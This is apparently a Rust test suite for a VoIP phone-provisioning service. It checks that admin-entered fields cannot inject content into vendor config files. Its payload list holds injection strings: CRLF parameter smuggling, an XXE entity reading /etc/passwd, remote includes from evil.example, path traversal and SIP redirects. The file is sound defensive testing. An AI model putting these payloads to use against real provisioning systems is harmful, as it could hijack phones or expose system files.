//! Every text that an admin can write, against every vendor's files: what tries to add a parameter, an
//! include, an element, a header or a path is refused, or comes out as plain text.

use std::collections::{BTreeMap, BTreeSet};
use std::rc::Rc;

use http::{Method, StatusCode};
use serde_json::{Value, json};

use super::catalogue::{documents, model};
use crate::ask::{call, fetch, follow, patch, put};
use crate::vendors::{KITS, Kit};
use crate::world::Fake;

/// Texts that break out of one vendor's syntax or another's.
const PAYLOADS: [&str; 26] = [
    "x\naccount.2.enable = 1",
    "x\r\naccount.2.enable = 1",
    "x\u{2028}account.2.enable = 1",
    "x\u{85}y",
    "x\u{0}y",
    "x\taccount.2.enable=1",
    "#!version:1.0.0.1",
    "include:config \"https://evil.example/x.cfg\"",
    "\"><item name=\"account.2.enable\">1</item>",
    "</P2><P47>evil.example</P47>",
    "]]><P47>evil.example</P47>",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "<?xml-stylesheet href=\"https://evil.example\"?>",
    "&#10;P47=evil.example",
    "\" reg.2.address=\"evil.example",
    "';P47=evil.example",
    "fnc=sd;ext=911@evil.example;nme=x",
    "$PROXY",
    "${P47}",
    "%NULL%",
    "../../etc/passwd",
    "https://evil.example/",
    "a@evil.example:5061;transport=tls",
    "x\" \"y",
    "\\\" P47=\\\"x",
    "x # y",
];

/// Where a text can be put, and one that every vendor takes there: the record, the place in it.
const FIELDS: [(&str, &str, &str); 31] = [
    ("tenants/acme", "/name", "ACME"),
    ("pbxes/main", "/sip/host", "sip.example.com"),
    ("pbxes/main", "/sip/backup_host", "sip2.example.com"),
    ("pbxes/main", "/sip/outbound_proxy", "proxy.example.com"),
    ("pbxes/main", "/context", "from-phones"),
    ("pbxes/main", "/realm", "asterisk"),
    ("accounts/one", "/username", "1001"),
    ("accounts/one", "/auth_username", "1001"),
    ("accounts/one", "/password", "secret-of-one"),
    ("accounts/one", "/display_name", "One"),
    ("accounts/one", "/voicemail", "*97"),
    ("device", "/serial", "3146019091637071"),
    ("device", "/site", "berlin"),
    ("device", "/region", "eu"),
    ("device", "/url", "https://there.example/"),
    ("device", "/model", "MODEL"),
    ("device", "/lines/0/label", "One"),
    ("device", "/buttons/0/label", "Two"),
    ("device", "/buttons/0/value", "1002"),
    ("device", "/settings/timezone", "Europe/Berlin"),
    ("device", "/settings/language", "de"),
    ("device", "/settings/ntp_server", "ntp.example.com"),
    (
        "device",
        "/settings/wallpaper",
        "https://www.example.com/a.png",
    ),
    (
        "device",
        "/settings/firmware_url",
        "https://www.example.com/a.rom",
    ),
    ("device", "/settings/syslog_server", "log.example.com"),
    ("device", "/settings/admin_password", "secret-of-phone"),
    ("device", "/settings/user_password", "secret-of-user"),
    ("device", "/settings/forward/always", "1003"),
    ("device", "/settings/forward/busy", "1003"),
    ("device", "/settings/dial_plan/0", "0[1-9]xx"),
    ("device", "/settings/codecs/0", "pcma"),
];

/// The records of one phone, by their paths, with the tame text everywhere.
fn records(kit: &Kit) -> BTreeMap<String, Value> {
    let model = model(kit.vendor, kit.model);
    let knows = |function: &str| {
        let buttons = model["buttons"].as_array().unwrap();
        buttons.contains(&json!(function))
    };
    let button = ["speed_dial", "blf"].into_iter().find(|name| knows(name));
    let buttons: Vec<Value> = button
        .filter(|_| model["keys"] != 0)
        .map(|function| json!({ "key": 1, "type": function, "value": "1002", "label": "Two" }))
        .into_iter()
        .collect();
    BTreeMap::from([
        ("tenants/acme".to_owned(), json!({ "name": "ACME" })),
        (
            "pbxes/main".to_owned(),
            json!({
                "tenant": "acme", "ari_url": "https://pbx.example.com/ari",
                "ari_username": "dialtone", "ari_password": "ari",
                "context": "from-phones", "realm": "asterisk",
                "sip": {
                    "host": "sip.example.com", "backup_host": "sip2.example.com",
                    "outbound_proxy": "proxy.example.com",
                },
            }),
        ),
        (
            "accounts/one".to_owned(),
            json!({
                "tenant": "acme", "pbx": "main", "username": "1001", "auth_username": "1001",
                "password": "secret-of-one", "display_name": "One", "voicemail": "*97",
            }),
        ),
        (
            format!("devices/{}", kit.mac),
            json!({
                "tenant": "acme", "vendor": kit.vendor, "model": kit.model,
                "serial": "3146019091637071", "site": "berlin", "region": "eu",
                "lines": [{ "line": 1, "account": "one", "label": "One" }],
                "buttons": buttons,
                "settings": {
                    "timezone": "Europe/Berlin", "language": "de",
                    "ntp_server": "ntp.example.com",
                    "wallpaper": "https://www.example.com/a.png",
                    "firmware_url": "https://www.example.com/a.rom",
                    "syslog_server": "log.example.com", "admin_password": "secret-of-phone",
                    "user_password": "secret-of-user",
                    "forward": { "always": "1003", "busy": "1003" },
                    "dial_plan": ["0[1-9]xx"], "codecs": ["pcma"],
                },
            }),
        ),
    ])
}

/// The names of the parameters in each file, and what leads elsewhere in them.
fn shape(fake: &Fake, kit: &Kit, created: &Value) -> BTreeMap<String, BTreeSet<String>> {
    let read = |(path, text): (String, String)| {
        let read = (kit.read)(&path, &text);
        let read = read.unwrap_or_else(|error| panic!("{path}: {error}\n{text}"));
        (path, read.into_keys().collect())
    };
    documents(fake, kit, created)
        .into_iter()
        .map(read)
        .collect()
}

/// A phone with the tame texts, and what its files are made of.
struct Tame {
    fake: Rc<Fake>,
    records: BTreeMap<String, Value>,
    /// The path of its record.
    device: String,
    created: Value,
    shape: BTreeMap<String, BTreeSet<String>>,
}

impl Tame {
    fn of(kit: &Kit) -> Self {
        let fake = Fake::new();
        let records = records(kit);
        for path in ["tenants/acme", "pbxes/main", "accounts/one"] {
            put(&fake, path, &records[path]);
        }
        let device = format!("devices/{}", kit.mac);
        let created = put(&fake, &device, &records[&device]);
        let shape = shape(&fake, kit, &created);
        Self {
            fake,
            records,
            device,
            created,
            shape,
        }
    }
}

#[test]
fn no_text_adds_anything_to_any_vendors_files() {
    let mut accepted = 0_u32;
    let mut refused = 0_u32;
    for kit in KITS {
        let Tame {
            fake,
            records,
            device,
            created,
            shape: tame,
        } = Tame::of(kit);
        let key = created["first_access"]["url"].as_str().unwrap();
        for (record, pointer, _) in FIELDS {
            let path = match record {
                "device" => &device,
                other => other,
            };
            if records[path].pointer(pointer).is_none() && !pointer.starts_with("/url") {
                // Linphone has no keys.
                continue;
            }
            for payload in PAYLOADS {
                let what = format!("{} {path}{pointer} {payload:?}", kit.vendor);
                let mut changed = records[path].clone();
                match changed.pointer_mut(pointer) {
                    Some(slot) => *slot = json!(payload),
                    None => changed["url"] = json!(payload),
                }
                let saved = call(&fake, Method::PUT, path, &changed);
                if saved.status() != StatusCode::OK {
                    refused += 1;
                    assert!(
                        saved.status().is_client_error(),
                        "{what}: {}",
                        saved.status()
                    );
                    continue;
                }
                accepted += 1;
                fake.clock.pass_s(61);
                let now = shape(&fake, kit, &created);
                assert_eq!(now, tame, "{what}");
                // No header either, and no way elsewhere than the record's own.
                let answer = fetch(&fake, &follow(&format!("{key}{}.cfg", kit.mac)));
                assert!(
                    answer.headers().len() <= 5,
                    "{what}: {:?}",
                    answer.headers()
                );
            }
            put(&fake, path, &records[path]);
            fake.clock.pass_s(61);
        }
    }
    // Both happen, or the test tries nothing.
    assert!(
        accepted > 500 && refused > 500,
        "{accepted} accepted, {refused} refused"
    );
}

#[test]
fn no_parameter_in_a_vendors_own_words_adds_another() {
    for kit in KITS {
        let Tame {
            fake,
            device,
            created,
            shape: tame,
            ..
        } = Tame::of(kit);
        for payload in PAYLOADS {
            for raw in [json!({ payload: "1" }), json!({ "own.setting": payload })] {
                let body = json!({ "settings": { "raw": { kit.vendor: raw } } });
                let what = format!("{} {raw}", kit.vendor);
                let saved = call(&fake, Method::PATCH, &device, &body);
                if saved.status() != StatusCode::OK {
                    assert!(
                        saved.status().is_client_error(),
                        "{what}: {}",
                        saved.status()
                    );
                    continue;
                }
                for (path, names) in shape(&fake, kit, &created) {
                    let more: Vec<_> = names.difference(&tame[&path]).collect();
                    assert!(more.len() <= 1, "{what}: {path}: {more:?}");
                    assert!(tame[&path].is_subset(&names), "{what}: {path}");
                }
                patch(&fake, &device, &json!({ "settings": { "raw": null } }));
            }
        }
    }
}
